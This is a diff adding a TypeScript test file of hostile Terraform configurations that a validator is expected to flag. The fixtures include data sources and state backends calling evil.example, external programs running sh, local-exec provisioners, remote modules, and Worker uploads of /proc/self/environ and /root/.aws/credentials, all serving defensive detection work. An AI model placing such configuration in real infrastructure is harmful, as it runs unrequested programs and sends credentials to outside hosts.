@@ -1,0 +1,274 @@
+import { terraform } from "./support";
+import { backend, bare, output, type TerraformCase } from "./terraform-cases";
+
+/** Rules against Terraform that runs programs, or speaks with strangers. */
+export const HOSTILE_CASES: readonly TerraformCase[] = [
+  [
+    "foreignProvider",
+    "a declared one",
+    terraform({ terraform: { required_providers: { evil: { source: "Evil/Cloudflare" } } } }),
+    ["provider.evil: provider evil is evil/cloudflare, which is on no list"],
+  ],
+  [
+    "foreignProvider",
+    "under Cloudflare's name",
+    bare({ terraform: { required_providers: { cloudflare: { source: "registry.evil.example/cloudflare/cloudflare" } } } }),
+    ["provider.cloudflare: provider cloudflare is registry.evil.example/cloudflare/cloudflare, which is on no list"],
+  ],
+  [
+    "foreignProvider",
+    "without a source",
+    bare({ resource: { cloudflare_account_token: { x: {} } } }),
+    ["provider.cloudflare: provider cloudflare is hashicorp/cloudflare, which is on no list"],
+  ],
+  [
+    "foreignProvider",
+    "an old form",
+    bare({ terraform: { required_providers: [{ null: "~> 3.0" }] } }),
+    ["provider.null: provider null is hashicorp/null, which is on no list"],
+  ],
+  [
+    "foreignProvider",
+    "a source that is no text",
+    bare({ terraform: { required_providers: { x: { source: ["cloudflare/cloudflare"] } } } }),
+    ['provider.x: provider x is ["cloudflare/cloudflare"], which is on no list'],
+  ],
+  [
+    "foreignProvider",
+    "implied by blocks of every kind",
+    terraform({
+      resource: { null_resource: { x: {} }, cloudflare_zone: { y: { provider: "aws.west" } } },
+      data: [{ external: [{ x: {} }] }],
+      ephemeral: { random_password: { x: {} } },
+      action: { shell_run: { x: {} } },
+      provider: { tls: {} },
+      check: { c: { data: { http: { x: {} } } } },
+      import: [{ to: "archive_file.x" }, { to: "cloudflare_zone.x", provider: "google" }],
+    }),
+    [
+      "provider.archive: provider archive is hashicorp/archive, which is on no list",
+      "provider.aws: provider aws is hashicorp/aws, which is on no list",
+      "provider.external: provider external is hashicorp/external, which is on no list",
+      "provider.google: provider google is hashicorp/google, which is on no list",
+      "provider.http: provider http is hashicorp/http, which is on no list",
+      "provider.null: provider null is hashicorp/null, which is on no list",
+      "provider.random: provider random is hashicorp/random, which is on no list",
+      "provider.shell: provider shell is hashicorp/shell, which is on no list",
+      "provider.tls: provider tls is hashicorp/tls, which is on no list",
+    ],
+  ],
+  ...[" random", "/* x */ random", "#\nrandom . a", "// x\n random.a"].map((provider): TerraformCase => [
+    "foreignProvider",
+    `a reference behind what Terraform ignores: ${JSON.stringify(provider)}`,
+    terraform({ resource: { cloudflare_zone: { x: { provider } } } }),
+    ["provider.random: provider random is hashicorp/random, which is on no list"],
+  ]),
+  [
+    "foreignProvider",
+    "Cloudflare's, and Terraform's own",
+    terraform({ resource: { terraform_data: { x: {} } }, data: { terraform_remote_state: { y: {} } } }),
+    [],
+  ],
+  [
+    "foreignProvider",
+    "with its registry's name",
+    bare({ terraform: { required_providers: { cloudflare: { source: "registry.terraform.io/cloudflare/cloudflare" } } } }),
+    [],
+  ],
+
+  [
+    "foreignHttp",
+    "http data",
+    terraform({ data: { http: { x: { url: "https://evil.example/" } } } }),
+    ["data.http.x: data.http.x asks evil.example"],
+  ],
+  [
+    "foreignHttp",
+    "http data within a check",
+    terraform({ check: { c: { data: { http: { x: { url: "https://evil.example/" } } } } } }),
+    ["data.http.x: data.http.x asks evil.example"],
+  ],
+  [
+    "foreignHttp",
+    "a URL that is not known",
+    terraform({ data: { http: { x: { url: "https://${var.host}/" } } } }),
+    ["data.http.x: data.http.x asks a host that is known at plan time only"],
+  ],
+  [
+    "foreignHttp",
+    "a remote state by http",
+    terraform({ data: { terraform_remote_state: { x: { backend: "http", config: { address: "https://evil.example/s" } } } } }),
+    ["data.terraform_remote_state.x: data.terraform_remote_state.x keeps or reads a state at evil.example"],
+  ],
+  [
+    "foreignHttp",
+    "a state elsewhere",
+    bare(backend({ s3: { endpoints: [{ s3: "https://r2.cloudflarestorage.com.evil.example" }] } })),
+    ["backend.s3: backend.s3 keeps or reads a state at r2.cloudflarestorage.com.evil.example"],
+  ],
+  [
+    "foreignHttp",
+    "a host without a scheme",
+    bare(backend({ remote: { hostname: "evil.example:8443" } })),
+    ["backend.remote: backend.remote keeps or reads a state at evil.example"],
+  ],
+  [
+    "foreignHttp",
+    "userinfo",
+    bare(backend({ http: { address: "https://app.terraform.io@evil.example/" } })),
+    ["backend.http: backend.http keeps or reads a state at evil.example"],
+  ],
+  [
+    "foreignHttp",
+    "hosts of providers, proxies and metadata",
+    terraform({
+      provider: {
+        vault: { address: "https://evil.example" },
+        kubernetes: [{ host: "evil.example:6443" }],
+        cloudflare: { base_url: "https://x.example" },
+      },
+      terraform: { backend: { s3: { https_proxy: "evil.example:3128" } } },
+      data: { terraform_remote_state: { r: { backend: "azurerm", config: { metadata_host: "evil.example" } } } },
+    }),
+    [
+      "backend.s3: backend.s3 keeps or reads a state at evil.example",
+      "data.terraform_remote_state.r: data.terraform_remote_state.r keeps or reads a state at evil.example",
+      "provider.kubernetes: provider.kubernetes speaks with evil.example",
+      "provider.vault: provider.vault speaks with evil.example",
+    ],
+  ],
+  ["foreignHttp", "R2", bare(backend({ s3: { endpoints: { s3: "https://x.r2.cloudflarestorage.com" } } })), []],
+  ["foreignHttp", "HCP Terraform", bare({ terraform: { cloud: { hostname: "app.terraform.io", workspaces: { name: "https" } } } }), []],
+
+  [
+    "providerBaseUrl",
+    "a base_url",
+    terraform({ provider: { cloudflare: [{ alias: "x", base_url: "https://evil.example" }] } }),
+    ["provider.cloudflare.base_url: provider.cloudflare has a base_url"],
+  ],
+  ["providerBaseUrl", "none", terraform({ provider: { cloudflare: { base_url: null } } }), []],
+
+  [
+    "externalProgram",
+    "external data",
+    terraform({ data: { external: { x: { program: ["sh"] } } } }),
+    ["data.external.x: data.external.x runs a program"],
+  ],
+  [
+    "externalProgram",
+    "within a check",
+    terraform({ check: { c: [{ data: [{ external: [{ x: {} }] }] }] } }),
+    ["data.external.x: data.external.x runs a program"],
+  ],
+  [
+    "externalProgram",
+    "OpenTofu's encryption",
+    terraform({ terraform: { encryption: { key_provider: { external: { k: { command: ["sh"] } } } } } }),
+    ["encryption.external.k: encryption.external.k runs a program"],
+  ],
+  [
+    "externalProgram",
+    "credentials that a program gives",
+    terraform({
+      terraform: { backend: { s3: { profile: "x", shared_config_files: ["assets/config"] } } },
+      data: { terraform_remote_state: { r: { backend: "kubernetes", config: { exec: [{ command: "sh" }] } } } },
+      provider: { kubernetes: { config_path: "kubeconfig" }, aws: { shared_credentials_files: null, shared_config_files: null } },
+    }),
+    [
+      "backend.s3.shared_config_files: backend.s3 may run a program that shared_config_files names",
+      "data.terraform_remote_state.r.exec: data.terraform_remote_state.r may run a program that exec names",
+      "provider.kubernetes.config_path: provider.kubernetes may run a program that config_path names",
+    ],
+  ],
+  ["externalProgram", "other data", terraform({ data: { cloudflare_zone: { external: {} } } }), []],
+
+  [
+    "provisioner",
+    "a provisioner",
+    terraform({ resource: { terraform_data: { x: { provisioner: [{ "local-exec": { command: "env" } }] } } } }),
+    ["terraform_data.x.provisioner: terraform_data.x has a provisioner"],
+  ],
+  [
+    "provisioner",
+    "on a token, in another form",
+    terraform({ resource: [{ cloudflare_account_token: [{ x: [{ provisioner: { "local-exec": {} }, connection: {} }] }] }] }),
+    [
+      "cloudflare_account_token.x.connection: cloudflare_account_token.x has a connection",
+      "cloudflare_account_token.x.provisioner: cloudflare_account_token.x has a provisioner",
+    ],
+  ],
+  [
+    "provisioner",
+    "on what is removed",
+    terraform({ removed: { from: "terraform_data.x", provisioner: { "local-exec": {} } } }),
+    ["removed.terraform_data.x.provisioner: removed.terraform_data.x has a provisioner"],
+  ],
+  ["provisioner", "none", terraform({ resource: { terraform_data: { x: { provisioner: null } } }, removed: { from: "x.y" } }), []],
+
+  [
+    "unreadModule",
+    "a remote one",
+    terraform({ module: { m: { source: "git::https://evil.example/m.git" } } }),
+    ["module.m: module.m is loaded from elsewhere, and nothing here reads it"],
+  ],
+  [
+    "unreadModule",
+    "a local one",
+    terraform({ module: [{ m: [{ source: "./assets/m" }] }] }),
+    ["module.m: module.m is loaded from a folder, and nothing here reads it"],
+  ],
+  ["unreadModule", "none", terraform(), []],
+
+  ["readsLocalFiles", "file", terraform(output('${file("/proc/self/environ")}')), ["output.token: output.token calls file"]],
+  [
+    "readsLocalFiles",
+    "with a comment",
+    terraform({ locals: { x: "%{if fileexists /* ( */ # x\n (var.x)}a%{endif}" } }),
+    ["locals: locals calls fileexists"],
+  ],
+  [
+    "readsLocalFiles",
+    "by its full name, in a key",
+    terraform({ resource: { cloudflare_account_token: { x: { name: { '${core::templatefile("x", {})}': 1 } } } } }),
+    ["cloudflare_account_token.x: cloudflare_account_token.x calls templatefile"],
+  ],
+  [
+    "readsLocalFiles",
+    "what a Worker is made of",
+    terraform({
+      resource: {
+        cloudflare_workers_script: { w: { content_file: "/proc/self/environ" }, a: { assets: { directory: "/root" } } },
+        cloudflare_worker_version: { v: { modules: [{ name: "x", content_file: "/root/.aws/credentials" }] } },
+      },
+    }),
+    [
+      "cloudflare_worker_version.v: cloudflare_worker_version.v uploads what content_file names",
+      "cloudflare_workers_script.a: cloudflare_workers_script.a uploads what directory names",
+      "cloudflare_workers_script.w: cloudflare_workers_script.w uploads what content_file names",
+    ],
+  ],
+  [
+    "readsLocalFiles",
+    "a text that says so, and other functions",
+    terraform({ ...output("file(x)"), locals: { a: "${profile(1)}", b: "${local.file}" } }),
+    [],
+  ],
+
+  [
+    "unexpectedFile",
+    "files that Terraform reads",
+    terraform({}, "prod", [".terraform", "assets", "a.auto.tfvars", "metadata.json", "terraform.d", "terraform.tfvars.json"]),
+    [
+      "a.auto.tfvars: Terraform would read a.auto.tfvars as well",
+      "terraform.d: Terraform would read terraform.d as well",
+      "terraform.tfvars.json: Terraform would read terraform.tfvars.json as well",
+    ],
+  ],
+  [
+    "unexpectedFile",
+    "more configuration beside the one file that was given, in whatever case",
+    terraform({}, "prod", [".hidden.tf", "Override.TF.json", "TERRAFORM.TFVARS", "main.tf", "x.tofu"]),
+    ["Override.TF.json", "TERRAFORM.TFVARS", "main.tf", "x.tofu"].map((name) => `${name}: Terraform would read ${name} as well`),
+  ],
+  ["unexpectedFile", "others", terraform({}, "prod", [".terraform.lock.hcl", "plan", "terraform.tfstate"]), []],
+];
